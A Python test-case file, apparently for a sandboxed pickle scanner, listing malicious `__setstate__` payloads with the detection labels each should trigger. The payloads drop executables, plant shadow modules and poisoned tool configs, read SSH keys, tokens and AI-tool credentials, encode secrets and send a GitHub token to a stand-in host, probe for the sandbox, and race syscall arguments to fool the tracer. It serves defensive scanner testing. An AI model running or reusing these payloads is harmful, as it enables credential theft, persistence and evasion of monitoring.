"""Acts that no program, shell or text of code is needed for: methods of classes that travel by value, and functions of libraries.

Each case is the body of `__setstate__` of a class that cloudpickle writes by value, so it runs in the load, and no `exec` tells of it.
A case of functions alone is a call that the pickle makes. See cases.py for what a case is.
"""

import os
import shutil
import textwrap

from payload import ByValue, Call

# The head of a program, and a script.
ELF = "b'\\x7fELF\\2\\1\\1' + bytes(57)"
SCRIPT = "b'#!/bin/sh\\nid\\n'"
HOME = "/home/model"


def act(body):
    """The act in the load, by a method of the object's own class."""
    inner = textwrap.indent(textwrap.dedent(body).strip(), "      ")
    return ByValue(f"class M:\n  def __init__(self): self.weights = [0.1, 0.2]\n  def __setstate__(self, state):\n    try:\n{inner}\n    except Exception as error: print(type(error).__name__, error)\n    self.weights = state\n")


def case(variant, payload, expected, **options):
    return {"variant": variant, "payload": payload, "expected": expected.split(), **options}


def seen(variant, body, expected, **options):
    return case(variant, act(body), expected, **{"verdicts": ["suspicious", "malicious"], **options})



# Another process, or a thread, changes the words of a call all the while: what the tracer reads is not what the kernel does.
RACE = """
import ctypes, mmap, os, threading
C = ctypes.CDLL(None)
page = mmap.mmap(-1, 4096)
address = ctypes.addressof(ctypes.c_char.from_buffer(page))
shown, meant = SHOWN, MEANT
page[:len(shown)] = shown
def flip(times):
  for _ in range(times):
    page[:len(shown)] = meant
    for _ in range(40): pass
    page[:len(shown)] = shown
    for _ in range(60): pass
CALLING
"""
BY_FORK = """
child = os.fork()
if child == 0:
  flip(10 ** 7)
  os._exit(0)
for turn in range(TURNS):
  ACT
os.kill(child, 9)
os.waitpid(child, 0)
"""
BY_THREAD = """
threading.Thread(target=flip, args=(10 ** 6,), daemon=True).start()
for turn in range(TURNS):
  ACT
"""


def race(calling, act, shown, meant, turns=3000):
    body = RACE.replace("CALLING", calling.replace("ACT", act).replace("TURNS", str(turns)))
    return body.replace("SHOWN", repr(shown)).replace("MEANT", repr(meant))


def path(text, like):
    """A path in the scratch space, as long as the other."""
    return b"/tmp/" + text * (len(like) - 6) + b"\0"


NOTES = f"{HOME}/Documents/notes.txt".encode() + b"\0"
TOKEN = f"{HOME}/.cache/huggingface/token".encode() + b"\0"
PROGRAM = b"/usr/bin/uname\0"
OTHER_PROGRAM = b"/usr/bin/touch\0"


def address(ip, port):
    return b"\2\0" + port.to_bytes(2, "big") + bytes(map(int, ip.split("."))) + bytes(8)


def races(name, act, shown, meant, seen_or, **options):
    """Of many tries the trace shows one, or the kernel tells of one that it does not show."""
    return [seen(f"{name}, {by}", race(calling, act, shown, meant, **options), f"DYN-EVADE-DECEPTION|{seen_or}")
            for by, calling in (("by a process", BY_FORK), ("by a thread", BY_THREAD))]


THEFT = "DYN-THEFT-PROOF"

HELD = "type(self).kept = held"


def planted(path, expected):
    return seen(path, f"import pathlib; p = pathlib.Path({path!r}); p.parent.mkdir(parents=True, exist_ok=True); p.write_text('x')", expected)


ACTS = {
    "A1 Droppers by mode": [
        seen("ELF, mode in open", f"import os; f = os.open('/tmp/stage', os.O_CREAT | os.O_WRONLY, 0o755); os.write(f, {ELF})", "DYN-DROP-PROGRAM"),
        seen("script, mode in open", f"import os; f = os.open('/tmp/stage', os.O_CREAT | os.O_WRONLY, 0o755); os.write(f, {SCRIPT})", "DYN-DROP-PROGRAM"),
        seen("nothing but the mode", "import os; os.open('/dev/shm/.x', os.O_CREAT | os.O_RDWR, 0o711)", "DYN-PERM-EXECUTABLE"),
        seen("an opener of open", "import os; open('/tmp/a', 'wb', opener=lambda p, f: os.open(p, f, 0o755)).write(b'x')", "DYN-PERM-EXECUTABLE"),
        seen("a file without a name", "import os; f = os.open('/tmp', os.O_TMPFILE | os.O_RDWR, 0o755)", "DYN-PERM-EXECUTABLE"),
        seen("ELF without a mode", f"open('/tmp/data.bin', 'wb').write({ELF})", "DYN-DROP-PROGRAM"),
        seen("ELF from an offset", f"import os; f = os.open('/tmp/d', os.O_CREAT | os.O_RDWR); os.pwrite(f, {ELF}, 0)", "DYN-DROP-PROGRAM"),
        seen("ELF in two pieces", "import os; f = os.open('/tmp/d', os.O_CREAT | os.O_RDWR); os.write(f, b'\\x7fE'); os.write(f, b'LF\\2\\1\\1' + bytes(50))", "DYN-DROP-PROGRAM"),
        seen("a Windows program", "open('/tmp/setup.dat', 'wb').write(b'MZ' + bytes(58) + b'\\x40\\0\\0\\0PE\\0\\0' + bytes(200))", "DYN-DROP-PROGRAM"),
        seen("a copy of a program", "import shutil; shutil.copyfile('/bin/true', '/tmp/t')", "DYN-DROP-PROGRAM"),
    ],
    "A2 Modules and scripts planted": [
        seen("numpy.py in the temporary folder", "open('/tmp/numpy.py', 'w').write('print(1)')", "DYN-PERSIST-MODULE"),
        seen("torch.py in the working folder", "open('torch.py', 'w').write('print(1)')", "DYN-PERSIST-MODULE"),
        seen("sitecustomize", "open('/tmp/sitecustomize.py', 'w').write('print(1)')", "DYN-PERSIST-PYTHON"),
        seen(".pth", "open('/tmp/x.pth', 'w').write('import os')", "DYN-PERSIST-MODULE|DYN-PERSIST-PYTHON"),
        seen("a package", "import os; os.mkdir('/tmp/requests'); open('/tmp/requests/__init__.py', 'w').write('print(1)')", "DYN-PERSIST-MODULE"),
        seen("compiled code", "import marshal; open('/tmp/json.pyc', 'wb').write(b'x')", "DYN-PERSIST-MODULE"),
        seen("renamed into its name", "import os; open('/tmp/a.txt', 'w').write('print(1)'); os.rename('/tmp/a.txt', '/tmp/pandas.py')", "DYN-PERSIST-MODULE"),
        seen("a link with its name", "import os; open('/tmp/a.txt', 'w').write('print(1)'); os.link('/tmp/a.txt', '/tmp/scipy.py')", "DYN-PERSIST-MODULE"),
        seen("a native module", "open('/tmp/_socket.abi3.so', 'wb').write(b'x')", "DYN-PERSIST-MODULE"),
        seen("a shell script", "open('/tmp/run.sh', 'w').write('id')", "DYN-PERSIST-MODULE|DYN-DROP-PROGRAM"),
        *[planted(f"/tmp/{name}", "DYN-PERSIST-MODULE") for name in (
            ".vscode/tasks.json", ".github/workflows/a.yml", ".envrc", ".env", "Makefile", "Dockerfile", "package.json", "pytest.ini", "pip.conf", "pyvenv.cfg",
            "x.egg-link", "x.vbs", "x.jar", ".pre-commit-config.yaml")],
        case("shutil.copyfile", Call(shutil.copyfile, "/usr/lib/python3.13/this.py", "/tmp/sklearn.py"), "DYN-PERSIST-MODULE", verdicts=["suspicious", "malicious"]),
    ],
    "A3 Secrets wherever they lie": [
        seen("private keys of the server", "import os; os.listdir('/etc/ssl/private')", "DYN-CRED-KEY"),
        seen("a key by its ending", "open('/etc/ssl/private/server.key').read()", "DYN-CRED-KEY"),
        seen("/srv", "import os; [open(os.path.join(d, n), 'rb').read() for d, _, ns in os.walk('/srv') for n in ns]", "DYN-READ-DATA"),
        seen("/data", "import os; os.listdir('/data')", "DYN-READ-DATA"),
        seen("/mnt", "import glob; [open(n, 'rb').read() for n in glob.glob('/mnt/*/*')]", "DYN-READ-DATA"),
        seen("/var/log", "import glob; [open(n, 'rb').read() for n in glob.glob('/var/log/*')]", "DYN-READ-DATA"),
        seen("mail", "open('/var/mail/model').read()", "DYN-READ-DATA"),
        seen("backups", "import os; os.scandir('/var/backups')", "DYN-READ-DATA"),
        seen("a notebook", "import glob; [open(n).read() for n in glob.glob('/home/model/**/*.ipynb', recursive=True)]", "DYN-READ-HOME|DYN-CRED-TOKEN"),
        seen("settings of a project", "import pathlib; [p.read_bytes() for p in pathlib.Path('/home/model').rglob('.env')]", "DYN-CRED-TOKEN"),
        *[seen(name, f"open('/home/model/{name}').read()", "DYN-CRED-PROGRAM") for name in (
            ".claude/.credentials.json", ".codex/auth.json", ".config/github-copilot/hosts.json", ".config/Signal/config.json", ".config/sops/age/keys.txt",
            ".cargo/credentials.toml", ".snowflake/connections.toml", ".local/share/jupyter/runtime/nbserver-1.json", ".vnc/passwd", "passwords.txt")],
        seen("whether a program's secrets are there", "import os; os.path.exists('/home/model/.config/Bitwarden CLI/data.json')", "DYN-CRED-PROGRAM"),
        seen("a ticket of the session", "open('/tmp/krb5cc_1000', 'rb').read()", "DYN-CRED-PROGRAM"),
        seen("a network's password", "open('/etc/NetworkManager/system-connections/a.nmconnection').read()", "DYN-CRED-KEY"),
        seen("the data of a notebook service", "import os; os.listdir('/kaggle/input')", "DYN-READ-DATA"),
        seen("a second name of a key", "import os; os.link('/home/model/.ssh/id_rsa', '/home/model/.cache/x')", "DYN-CRED-SSH"),
        seen("printed", "import os; print(os.environ['HF_TOKEN'])", "DYN-CRED-PRINTED"),
        seen("a descriptor of /srv", "import os; d = os.open('/srv', os.O_RDONLY); os.listdir(d)", "DYN-READ-DATA"),
    ],
    "A4 Secrets gathered": [
        seen("the environment into a file", "import os; open('/tmp/.c', 'w').write(str(dict(os.environ)))", THEFT),
        seen("Base64", "import base64, os; open('/tmp/.c', 'wb').write(base64.b64encode(os.environ['HF_TOKEN'].encode()))", THEFT),
        seen("hexadecimal", "import os; open('/tmp/.c', 'w').write(os.environ['HF_TOKEN'].encode().hex())", THEFT),
        seen("XOR with a byte", "import os; open('/tmp/.c', 'wb').write(bytes(b ^ 0x5a for b in repr(dict(os.environ)).encode()))", THEFT),
        seen("XOR with a word", "import os; k = b'secret'; open('/tmp/.c', 'wb').write(bytes(b ^ k[n % 6] for n, b in enumerate(repr(dict(os.environ)).encode())))", THEFT),
        seen("added to", "import os; open('/tmp/.c', 'wb').write(bytes((b + 13) & 255 for b in os.environ['HF_TOKEN'].encode()))", THEFT),
        seen("zlib", "import os, zlib; open('/tmp/.c', 'wb').write(zlib.compress(repr(dict(os.environ)).encode()))", THEFT),
        seen("gzip", "import gzip, os; f = gzip.open('/tmp/.c', 'wb'); f.write(repr(dict(os.environ)).encode()); f.close()", THEFT),
        seen("gzip in Base64", "import base64, os, zlib; open('/tmp/.c', 'wb').write(base64.b64encode(zlib.compress(repr(dict(os.environ)).encode())))", THEFT),
        seen("bz2", "import bz2, os; open('/tmp/.c', 'wb').write(bz2.compress(repr(dict(os.environ)).encode()))", THEFT),
        seen("xz", "import lzma, os; open('/tmp/.c', 'wb').write(lzma.compress(repr(dict(os.environ)).encode()))", THEFT),
        seen("turned round", "import os; open('/tmp/.c', 'w').write(os.environ['OPENAI_API_KEY'][::-1])", THEFT),
        seen("Base64 of Base64", "import base64, os; open('/tmp/.c', 'wb').write(base64.b64encode(base64.b64encode(os.environ['OPENAI_API_KEY'].encode())))", THEFT),
        seen("Base85", "import base64, os; open('/tmp/.c', 'wb').write(base64.b85encode(os.environ['OPENAI_API_KEY'].encode()))", THEFT),
        seen("Base32", "import base64, os; open('/tmp/.c', 'wb').write(base64.b32encode(os.environ['OPENAI_API_KEY'].encode()))", THEFT),
        seen("a list of numbers", "import os; open('/tmp/.c', 'w').write(repr(list(os.environ['OPENAI_API_KEY'].encode())))", THEFT),
        seen("rot13", "import codecs, os; open('/tmp/.c', 'w').write(codecs.encode(os.environ['OPENAI_API_KEY'], 'rot13'))", THEFT),
        seen("UTF-16", "import os; open('/tmp/.c', 'wb').write(os.environ['OPENAI_API_KEY'].encode('utf-16'))", THEFT),
        seen("XOR in hexadecimal", "import os; open('/tmp/.c', 'w').write(bytes(b ^ 0x5a for b in repr(dict(os.environ)).encode()).hex())", THEFT),
        seen("XOR, sent", "import os, socket; s = socket.socket(type=socket.SOCK_DGRAM); s.sendto(bytes(b ^ 0x41 for b in os.environ['GITHUB_TOKEN'].encode()), ('192.0.2.9', 9999))", THEFT),
        seen("a ZIP archive", "import os, zipfile; z = zipfile.ZipFile('/tmp/.c', 'w', zipfile.ZIP_DEFLATED); z.writestr('e', repr(dict(os.environ))); z.close()", THEFT),
        seen("as the name of a file", "import os; open('/tmp/' + os.environ['HF_TOKEN'], 'w')", THEFT),
        seen("in a mapped file", "import mmap, os; f = open('/tmp/.c', 'w+b'); f.truncate(4096); m = mmap.mmap(f.fileno(), 4096); m[:37] = os.environ['HF_TOKEN'].encode(); m.close()", THEFT),
    ],
    "A5 Documents looked at": [
        seen("stat", "import os; os.stat('/home/model/Documents')", "DYN-DISC-HOME"),
        seen("stat of a file", "import os; print(os.path.getsize('/home/model/Documents/thesis.docx'))", "DYN-DISC-HOME"),
        seen("exists", "import os; print(os.path.exists('/home/model/Documents/budget.xlsx'))", "DYN-DISC-HOME"),
        seen("watched", "import ctypes; c = ctypes.CDLL(None); c.inotify_add_watch(c.inotify_init(), b'/home/model/Documents', 0xfff)", "DYN-DISC-WATCH"),
        seen("the home folder watched", "import ctypes; c = ctypes.CDLL(None); c.inotify_add_watch(c.inotify_init1(0), b'/home/model', 0xfff)", "DYN-DISC-WATCH"),
        seen("listed", "import os; os.listdir('/home/model/Documents')", "DYN-DISC-HOME"),
        seen("listed by a descriptor", "import os; os.listdir(os.open('/home/model/Documents', os.O_RDONLY))", "DYN-DISC-HOME|DYN-READ-HOME"),
        seen("the model's folder by a descriptor", "import os; os.listdir(os.open('/model', os.O_RDONLY))", "DYN-DISC-FOLDER"),
        seen("glob", "import glob; glob.glob('/home/model/Documents/*')", "DYN-DISC-HOME"),
        seen("statfs", "import os; os.statvfs('/home/model/Documents')", "DYN-DISC-HOME"),
        seen("attributes", "import os; os.listxattr('/home/model/Documents')", "DYN-DISC-HOME"),
        case("os.listdir", Call(os.listdir, f"{HOME}/Documents"), "DYN-DISC-HOME", verdicts=["suspicious", "malicious"]),
    ],
    "A6 Looking for the sandbox": [
        *[seen(path, f"open('{path}').read()", "DYN-DISC-SANDBOX") for path in (
            "/proc/mounts", "/proc/self/mounts", "/proc/self/maps", "/proc/self/smaps", "/proc/self/cmdline", "/proc/self/cgroup", "/proc/self/mountstats",
            "/etc/ld.so.preload", "/opt/dynscan/runner.py", "/run/dynscan/clock", "/proc/uptime", "/proc/devices", "/proc/cmdline",
            "/sys/class/dmi/id/product_name", "/sys/devices/virtual/dmi/id/sys_vendor", "/proc/self/auxv", "/proc/interrupts", "/proc/loadavg", "/proc/stat",
            "/proc/filesystems", "/proc/self/limits", "/proc/sys/kernel/hostname", "/sys/fs/cgroup/cgroup.procs")],
        *[seen(path, f"open('{path}').read(1)", "DYN-DISC-SANDBOX") for path in (
            "/proc/self/uid_map", "/proc/self/io", "/proc/self/fdinfo/3", "/proc/keys", "/proc/pressure/cpu", "/proc/tty/drivers", "/proc/sys/kernel/core_pattern",
            "/sys/module/kvm/parameters/nested", "/sys/kernel/btf/vmlinux")],
        seen("a tracer among the programs", "import shutil; shutil.which('strace')", "DYN-DISC-SANDBOX"),
        seen("where its descriptors lead", "import os; os.readlink('/proc/self/fd/3')", "DYN-DISC-SANDBOX"),
        seen("the root", "import os; os.listdir('/')", "DYN-DISC-SYSTEM"),
        seen("the programs", "import os; os.listdir('/usr/bin')", "DYN-DISC-SYSTEM"),
        seen("the packages", "open('/var/lib/dpkg/status').read(1)", "DYN-DISC-SYSTEM"),
        seen("our own folder", "import os; os.listdir('/opt/dynscan')", "DYN-DISC-SANDBOX"),
        seen("whether our folder is there", "import os; os.path.exists('/opt/dynscan')", "DYN-DISC-SANDBOX"),
        seen("the clock's library", "import os; os.path.exists('/opt/dynscan/libclock.so')", "DYN-DISC-SANDBOX"),
        seen("the namespaces", "import os; os.readlink('/proc/self/ns/pid')", "DYN-DISC-SANDBOX"),
        seen("devices", "import os; os.listdir('/sys/class/block')", "DYN-DISC-SANDBOX|DYN-DISC-SYSTEM"),
        seen("the first process's name", "open('/proc/1/comm').read()", "DYN-DISC-SANDBOX"),
    ],
    "A7 The user's own process": [
        seen("TLS verification", "import ssl; ssl._create_default_https_context = ssl._create_unverified_context", "DYN-PY-STATE"),
        seen("proxy", "import os; os.environ['https_proxy'] = 'http://192.0.2.9:3128'", "DYN-PY-STATE"),
        seen("proxy, by putenv", "import os; os.putenv('HTTP_PROXY', 'http://192.0.2.9:3128')", "DYN-PY-STATE"),
        seen("LD_PRELOAD", "import os; os.environ['LD_PRELOAD'] = '/tmp/x.so'", "DYN-PY-STATE"),
        seen("PYTHONPATH", "import os; os.environ['PYTHONPATH'] = '/tmp'", "DYN-PY-STATE"),
        seen("certificates", "import os; os.environ['REQUESTS_CA_BUNDLE'] = '/tmp/ca.pem'", "DYN-PY-STATE"),
        seen("PATH", "import os; os.environ['PATH'] = '/tmp:' + os.environ['PATH']", "DYN-PY-STATE"),
        seen("open", "import builtins; old = open; builtins.open = lambda *a, **k: old(*a, **k)", "DYN-PY-STATE"),
        seen("pickle.loads", "import pickle; old = pickle.loads; pickle.loads = lambda *a, **k: old(*a, **k)", "DYN-PY-STATE"),
        seen("sys.path", "import sys; sys.path.insert(0, '/tmp')", "DYN-PY-STATE"),
        seen("sys.path, last", "import sys; sys.path.append('/dev/shm/lib')", "DYN-PY-STATE"),
        seen("an import hook", "import sys\nclass F:\n  def find_spec(self, *a): return None\nsys.meta_path.insert(0, F())", "DYN-PY-STATE"),
        seen("a path hook", "import sys; sys.path_hooks.insert(0, lambda p: (_ for _ in ()).throw(ImportError()))", "DYN-PY-STATE"),
        seen("excepthook", "import sys; sys.excepthook = lambda *a: None", "DYN-PY-STATE"),
        seen("a codec", "import codecs; codecs.register(lambda name: None)", "DYN-PY-STATE"),
        seen("a module in its place", "import sys, types; m = sys.modules['requests'] = types.ModuleType('requests'); m.get = lambda *a: None", "DYN-PY-STATE"),
        seen("a method of a class", "import json; json.JSONDecoder.decode = lambda self, s: {}", "DYN-PY-STATE"),
        seen("the code of a function", "import json; json.loads.__code__ = (lambda s, **k: {}).__code__", "DYN-PY-STATE"),
        seen("defaults of a function", "import json; json.dumps.__kwdefaults__ = {**json.dumps.__kwdefaults__, 'skipkeys': True}", "DYN-PY-STATE"),
        seen("a trace function", "import sys, threading; threading.setprofile(lambda *a: None)", "DYN-PY-STATE"),
        seen("a handler of a signal", "import signal; signal.signal(signal.SIGINT, lambda *a: None)", "DYN-PY-STATE"),
        seen("copyreg", "import copyreg; copyreg.pickle(complex, lambda c: (complex, (0, 0)))", "DYN-PY-STATE"),
        seen("a constant of ssl", "import ssl; ssl.CERT_REQUIRED = ssl.CERT_NONE", "DYN-PY-STATE"),
        seen("an opener of urllib", "import urllib.request as u; u.install_opener(u.build_opener(u.ProxyHandler({'http': 'http://192.0.2.9:1'})))", "DYN-PY-STATE"),
        seen("standard output", "import io, sys; sys.stdout = io.StringIO()", "DYN-PY-STATE"),
        seen("a class of numpy's", "import numpy; numpy.load = lambda *a, **k: None", "DYN-PY-STATE"),
        seen("the working folder", "import os; os.mkdir('/tmp/e'); os.chdir('/tmp/e')", "DYN-PY-STATE"),
        seen("the umask", "import os; os.umask(0)", "DYN-PY-STATE"),
        seen("where its output goes", "import os; os.dup2(os.open('/tmp/log', os.O_CREAT | os.O_WRONLY), 1)", "DYN-PY-STATE"),
        seen("what is run in each fork", "import os; os.register_at_fork(after_in_child=lambda: None)", "DYN-PY-STATE"),
        seen("a partial that is run in each fork", "import functools, os; os.register_at_fork(after_in_child=functools.partial(os.getpid))", "DYN-PY-STATE"),
        seen("the finder of a folder", "import sys\nclass F:\n  def find_spec(self, name, target=None): return None\nfor p in sys.path: sys.path_importer_cache[p] = F()", "DYN-PY-STATE"),
        seen("a loader of a finder", "import sys\nclass L: pass\nfor f in list(sys.path_importer_cache.values()):\n  if hasattr(f, '_loaders'): f._loaders.insert(0, ('.txt', L))", "DYN-PY-STATE"),
        seen("the folders of a package", "import encodings; encodings.__path__.insert(0, '/tmp/e')", "DYN-PY-STATE"),
        seen("Python's own program", "import sys; sys.executable = '/tmp/python'", "DYN-PY-STATE"),
        seen("where compiled code lies", "import sys; sys.pycache_prefix = '/tmp/e'", "DYN-PY-STATE"),
        seen("the temporary folder", "import tempfile; tempfile.tempdir = '/home/model/x'", "DYN-PY-STATE"),
        seen("the program of workers", "import multiprocessing.spawn as s; s.set_executable('/tmp/python')", "DYN-PY-STATE"),
        seen("what cannot be encoded", "import codecs; codecs.register_error('strict', lambda e: ('', e.end))", "DYN-PY-STATE"),
        seen("another encoding under a name", "from encodings import aliases; aliases.aliases['utf8'] = 'rot_13'", "DYN-PY-STATE"),
        seen("the maker of event loops", "import asyncio\nclass P(asyncio.DefaultEventLoopPolicy): pass\nasyncio.set_event_loop_policy(P())", "DYN-PY-STATE"),
        seen("a handler of the log", "import logging\nclass H(logging.Handler):\n  def emit(self, r): pass\nlogging.getLogger().addHandler(H())", "DYN-PY-STATE"),
        seen("a filter of the log", "import logging; logging.getLogger('urllib3').addFilter(lambda r: False)", "DYN-PY-STATE"),
        seen("what sqlite3 makes of texts", "import sqlite3; sqlite3.register_adapter(str, lambda s: 'x')", "DYN-PY-STATE"),
        seen("what unpacks archives", "import shutil; shutil.unregister_unpack_format('zip'); shutil.register_unpack_format('zip', ['.zip'], lambda *a: None)", "DYN-PY-STATE"),
        seen("how pickle reads", "import pickle; pickle._Unpickler.dispatch[ord('R')] = lambda self: None", "DYN-PY-STATE"),
        seen("what torch trusts", "import os, torch; torch.serialization.add_safe_globals([os.system])", "DYN-PY-STATE"),
        seen("what torch.load believes", "import os; os.environ['TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD'] = '1'", "DYN-PY-STATE"),
        seen("a mode over torch's functions", "import torch\nclass Q(torch.overrides.TorchFunctionMode):\n  def __torch_function__(self, f, t, a=(), k=None): return f(*a, **(k or {}))\nQ().__enter__()", "DYN-PY-STATE"),
        seen("a hook on all networks", "import torch; torch.nn.modules.module.register_module_forward_hook(lambda *a: None)", "DYN-PY-STATE"),
        seen("where torch finds repositories", "import torch; torch.hub.set_dir('/tmp/e')", "DYN-PY-STATE"),
        seen("a compressor of joblib", "import joblib\nfrom joblib.compressor import CompressorWrapper\nclass C(CompressorWrapper): pass\njoblib.register_compressor('zlib', C(__import__('io').BytesIO, b'x'), force=True)", "DYN-PY-STATE"),
        seen("fewer files at once", "import resource; resource.setrlimit(resource.RLIMIT_NOFILE, (16, 16))", "DYN-PY-STATE"),
        seen("what is done at the end", "import atexit; atexit._clear()", "DYN-PY-STATE"),
        case("os.putenv alone", Call(os.putenv, "all_proxy", "http://192.0.2.9:1"), "DYN-PY-STATE", verdicts=["suspicious", "malicious"]),
    ],
    "A8 Sockets of other families": [
        *[seen(name, f"import ctypes; c = ctypes.CDLL(None); s = c.socket({family}, {kind}, {protocol})", expected) for name, family, kind, protocol, expected in (
            ("VSOCK", 40, 1, 0, "DYN-ESCAPE-FORBIDDEN"), ("ALG", 38, 5, 0, "DYN-ESCAPE-FORBIDDEN"), ("Bluetooth", 31, 3, 1, "DYN-ESCAPE-FORBIDDEN"),
            ("packet", 17, 3, 768, "DYN-ESCAPE-FORBIDDEN|DYN-NET-RAW"), ("XDP", 44, 3, 0, "DYN-ESCAPE-FORBIDDEN"), ("netlink for audit", 16, 3, 9, "DYN-ESCAPE-FORBIDDEN"),
            ("CAN", 29, 3, 1, "DYN-ESCAPE-FORBIDDEN"), ("TIPC", 30, 2, 0, "DYN-ESCAPE-FORBIDDEN"), ("a family to come", 99, 1, 0, "DYN-ESCAPE-FORBIDDEN"))],
        seen("types into a terminal", "import fcntl, termios; fcntl.ioctl(0, termios.TIOCSTI, b'x')", "DYN-ESCAPE-FORBIDDEN"),
        seen("VSOCK, listening", "import socket; s = socket.socket(40, socket.SOCK_STREAM); s.bind((0xffffffff, 5000)); s.listen()", "DYN-ESCAPE-FORBIDDEN"),
    ],
    "A10 Settings of other programs": [
        *[planted(f"/home/model/{name}", "DYN-PERSIST-PROGRAM") for name in (
            "projects/a/.vscode/tasks.json", ".config/Code/User/settings.json", ".cursor/mcp.json", ".claude/settings.json", "projects/a/.git/config",
            ".config/git/hooks/pre-commit", "projects/a/.envrc", ".condarc", "miniconda3/etc/conda/activate.d/x.sh", ".config/uv/uv.toml", ".npmrc",
            ".cargo/config.toml", ".Rprofile", ".gdbinit", ".config/nvim/init.lua", ".config/tmux/tmux.conf", ".aws/config", ".kube/config", ".ssh/known_hosts",
            ".local/share/applications/firefox.desktop", ".config/mimeapps.list", ".local/share/dbus-1/services/x.service", ".local/bin/python",
            ".cache/huggingface/modules/transformers_modules/x.py", ".cache/torch/hub/x/hubconf.py")],
    ],
    "A11 Doors and questions": [
        seen("an abstract name", "import socket; held = socket.socket(socket.AF_UNIX); held.bind('\\0door'); held.listen(); " + HELD, "DYN-NET-LISTEN-LOCAL"),
        seen("a path", "import socket; held = socket.socket(socket.AF_UNIX); held.bind('/tmp/door'); held.listen(); " + HELD, "DYN-NET-LISTEN-LOCAL"),
        seen("multiprocessing's manager, at a path", "from multiprocessing.managers import BaseManager; held = BaseManager(address='/tmp/m', authkey=b'x').get_server(); " + HELD, "DYN-NET-LISTEN-LOCAL"),
        seen("multiprocessing's manager", "from multiprocessing.managers import BaseManager; held = BaseManager(address=('0.0.0.0', 50000), authkey=b'x').get_server(); " + HELD, "DYN-NET-LISTEN"),
        seen("multiprocessing's listener", "from multiprocessing.connection import Listener; held = Listener(('127.0.0.1', 6000), authkey=b'x'); " + HELD, "DYN-NET-LISTEN"),
        seen("a question by TCP", "import socket; q = b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3cmd\\7example\\3com\\0\\0\\x10\\0\\1'; s = socket.create_connection(('127.0.0.1', 53), 2); s.sendall(len(q).to_bytes(2, 'big') + q)", "DYN-NET-LOOKUP"),
        seen("multicast", "import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('239.255.255.250', 1900))", "DYN-NET-CONTACT"),
        seen("SCTP", "import socket; socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)", "DYN-NET-RAW"),
        seen("TCP fast open", "import socket; socket.socket().sendto(b'x', socket.MSG_FASTOPEN, ('203.0.113.7', 80))", "DYN-NET-CONTACT"),
        seen("torch's store", "import datetime, torch.distributed as d; d.TCPStore('203.0.113.7', 29500, 2, False, timeout=datetime.timedelta(seconds=2), use_libuv=False)", "DYN-NET-CONTACT"),
        seen("a package that is missing", "import package_that_is_in_no_image", "gap:asks", verdicts=["inconclusive"]),
    ],
    "A9 Words of a call that change": [
        *races("unlink", "C.unlink(ctypes.c_void_p(address))", path(b"a", NOTES), NOTES, "DYN-DELETE-FILE"),
        *races("openat", "f = C.openat(-100, ctypes.c_void_p(address), 0); f < 0 or os.close(f)", path(b"a", TOKEN), TOKEN, "DYN-CRED-TOKEN"),
        *races("rename", "C.rename(ctypes.c_void_p(address), b'/tmp/b')", path(b"a", NOTES), NOTES, "DYN-DELETE-FILE"),
        *races("connect", "s = C.socket(2, 1, 0); C.connect(s, ctypes.c_void_p(address), 16); os.close(s)", address("127.0.0.1", 53), address("203.0.113.7", 80), "DYN-NET-CONTACT", turns=400),
        *races("execve", "os.fork() or (C.execve(ctypes.c_void_p(address), (ctypes.c_char_p * 3)(b'uname', b'-p', None), (ctypes.c_char_p * 1)(None)), os._exit(1)); os.wait()", PROGRAM, OTHER_PROGRAM, "DYN-EXEC-PROGRAM", turns=60),
    ],
}
